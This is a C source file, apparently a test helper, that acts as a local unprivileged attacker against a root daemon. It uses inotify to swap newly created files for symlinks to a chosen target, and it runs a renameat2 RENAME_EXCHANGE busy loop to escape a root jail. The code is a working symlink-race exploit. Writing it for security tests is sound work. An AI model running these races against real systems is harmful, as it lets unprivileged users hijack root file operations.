// A local attacker for test/attack-files.test.ts, run as an unprivileged user.
//
//   attacker swap DIR FILTER TARGET
//     inotify on DIR: every new entry whose name contains FILTER ("*": any) is
//     renamed away at once and a symlink to TARGET put in its place, so a root
//     daemon that goes on to act on the name by path acts on TARGET instead.
//   attacker exchange A B
//     swaps A and B atomically (renameat2 RENAME_EXCHANGE) in a busy loop, e.g.
//     a directory and a symlink that leads out of a root jail.
//
// Prints "ready" once armed; on SIGTERM prints how many swaps it made.
#define _GNU_SOURCE
#include <errno.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <fcntl.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile unsigned long swaps;

static void on_term(int sig) {
  (void)sig;
  char buf[64];
  int n = snprintf(buf, sizeof buf, "swaps %lu\n", swaps);
  if (write(1, buf, n) < 0) {}
  _exit(0);
}

static int swap_mode(const char *dir, const char *filter, const char *target) {
  int fd = inotify_init1(0);
  if (fd < 0 || inotify_add_watch(fd, dir, IN_CREATE | IN_MOVED_TO) < 0) {
    perror("inotify");
    return 1;
  }
  int dfd = open(dir, O_RDONLY | O_DIRECTORY);
  if (dfd < 0) {
    perror("open dir");
    return 1;
  }
  puts("ready");
  fflush(stdout);
  char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
  unsigned long n = 0;
  for (;;) {
    ssize_t len = read(fd, buf, sizeof buf);
    if (len <= 0) continue;
    for (char *p = buf; p < buf + len;) {
      struct inotify_event *ev = (struct inotify_event *)p;
      p += sizeof *ev + ev->len;
      if (ev->len == 0 || strncmp(ev->name, ".attacker-", 10) == 0) continue;
      if (strcmp(filter, "*") != 0 && !strstr(ev->name, filter)) continue;
      char away[64];
      snprintf(away, sizeof away, ".attacker-%lu", n++);
      if (renameat(dfd, ev->name, dfd, away) != 0) continue;
      if (symlinkat(target, dfd, ev->name) == 0) swaps++;
    }
  }
  return 0;
}

static int exchange_mode(const char *a, const char *b) {
  puts("ready");
  fflush(stdout);
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) swaps++;
  }
  return 0;
}

int main(int argc, char **argv) {
  signal(SIGTERM, on_term);
  if (argc == 5 && strcmp(argv[1], "swap") == 0) return swap_mode(argv[2], argv[3], argv[4]);
  if (argc == 4 && strcmp(argv[1], "exchange") == 0) return exchange_mode(argv[2], argv[3]);
  fprintf(stderr, "usage: attacker swap DIR FILTER TARGET | attacker exchange A B\n");
  return 2;
}
